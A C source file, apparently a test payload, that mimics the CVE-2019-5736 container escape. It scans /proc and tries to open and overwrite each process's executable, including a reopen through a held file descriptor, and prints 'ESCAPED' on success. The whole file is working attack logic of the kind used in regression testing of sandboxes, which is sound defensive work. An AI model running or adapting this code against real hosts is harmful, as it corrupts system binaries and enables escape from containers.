/*
 * exe.c - payload: tries to open for writing the program of every process that
 * it can see, again and again, as CVE-2019-5736 did, and to write to it.
 *
 *   exe TIMES
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static void overwrite(const char *pid)
{
	static const int modes[] = { O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC };
	char path[300], again[64];

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	for (int i = 0; i < 3; i++) {
		int held = open(path, O_PATH);
		int fd = open(path, modes[i]);

		if (fd < 0 && held >= 0) {
			snprintf(again, sizeof(again), "/proc/self/fd/%d",
				 held);
			fd = open(again, modes[i]);
		}
		if (fd >= 0 && write(fd, "#!/bin/sh\n", 10) == 10)
			printf("ESCAPED %s was overwritten\n", path);
		if (fd >= 0)
			close(fd);
		if (held >= 0)
			close(held);
	}
}

int main(int argc, char **argv)
{
	long times = argc > 1 ? atol(argv[1]) : 1;

	for (; times > 0; times--) {
		DIR *d = opendir("/proc");
		struct dirent *entry;

		while (d && (entry = readdir(d)))
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
				overwrite(entry->d_name);
		if (d)
			closedir(d);
	}
	puts("RAN");
	return 0;
}
